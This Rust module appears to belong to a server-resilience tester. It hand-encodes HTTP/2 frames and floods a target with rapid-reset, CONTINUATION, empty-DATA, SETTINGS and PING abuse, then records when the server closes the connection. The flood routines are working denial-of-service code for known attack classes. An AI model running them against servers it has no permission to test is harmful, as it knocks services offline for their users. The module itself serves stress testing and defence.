//! HTTP/2 as it must not be spoken: floods of frames that cost the sender little and a careless server much.
//!
//! Frames are written as bytes (RFC 9113), since no client library would send them. Out: when the server was done with us, counted
//! from the first frame of the flood, and how many frames it took.

use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, bail};
use serde_json::json;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::{Target, say};

/// When a server that does not mind is left alone.
const PATIENCE: Duration = Duration::from_secs(10);
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

pub const KINDS: [&str; 5] = ["rapid-reset", "continuation", "empty-data", "settings", "ping"];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A GET or POST of localhost, in HPACK without the dynamic table (RFC 7541): indexed fields, and literals never indexed.
fn head(method: u8) -> Vec<u8> {
    let mut block = vec![0x80 | method, 0x87, 0x84];
    block.extend([0x01, 9]);
    block.extend(b"localhost");
    block
}
const GET: u8 = 2;
const POST: u8 = 3;

/// The frames of one burst; `next` is the first stream not used yet.
fn burst(kind: &str, next: &mut u32) -> Result<(Vec<u8>, u64)> {
    let mut bytes = Vec::new();
    for _ in 0..64 {
        match kind {
            "rapid-reset" => {
                bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, *next, &head(GET)));
                bytes.extend(frame(RST_STREAM, 0, *next, &8_u32.to_be_bytes()));
                *next += 2;
            }
            "continuation" => {
                if *next == 1 {
                    bytes.extend(frame(HEADERS, END_STREAM, *next, &head(GET)));
                    *next += 2;
                }
                // A literal never indexed: x-a: b.
                bytes.extend(frame(CONTINUATION, 0, 1, b"\x10\x03x-a\x01b"));
            }
            "empty-data" => {
                if *next == 1 {
                    bytes.extend(frame(HEADERS, END_HEADERS, *next, &head(POST)));
                    *next += 2;
                }
                bytes.extend(frame(DATA, 0, 1, b""));
            }
            "settings" => bytes.extend(frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
            "ping" => bytes.extend(frame(PING, 0, 0, b"portcull")),
            _ => bail!("there is no abuse `{kind}`"),
        }
    }
    Ok((bytes, 64))
}

pub async fn run(target: Target, agent: usize, kind: &str) -> Result<()> {
    let config = target.config(agent, true)?;
    let mut tls = target.connect(&config).await?;
    tls.write_all(PREFACE).await?;
    tls.write_all(&frame(SETTINGS, 0, 0, b"")).await?;
    tls.flush().await?;
    let mut thrown = vec![0; 16 * 1024];
    tls.read(&mut thrown).await.context("the server's settings")?;
    tls.write_all(&frame(SETTINGS, 1, 0, b"")).await?;
    let (mut reading, mut writing) = tokio::io::split(tls);
    let began = Instant::now();
    let mut frames = 0;
    // Whatever ends first: the server's patience, as seen by reading or by writing, or ours.
    let closed = async {
        let mut read = vec![0; 16 * 1024];
        loop {
            match reading.read(&mut read).await {
                Ok(0) => break "closed".to_owned(),
                Ok(_) => {}
                Err(error) => break error.to_string(),
            }
        }
    };
    let flood = async {
        let mut next = 1;
        loop {
            let (bytes, count) = burst(kind, &mut next)?;
            if let Err(error) = writing.write_all(&bytes).await {
                return anyhow::Ok(error.to_string());
            }
            frames += count;
            tokio::task::yield_now().await;
        }
    };
    let how = tokio::select! {
        how = closed => Some(how),
        how = flood => Some(how?),
        () = tokio::time::sleep(PATIENCE) => None,
    };
    say(&json!({
        "event": "end", "kind": kind, "closed": how.is_some(), "how": how, "frames": frames,
        "after_us": u64::try_from(began.elapsed().as_micros()).unwrap_or(u64::MAX),
    }));
    Ok(())
}
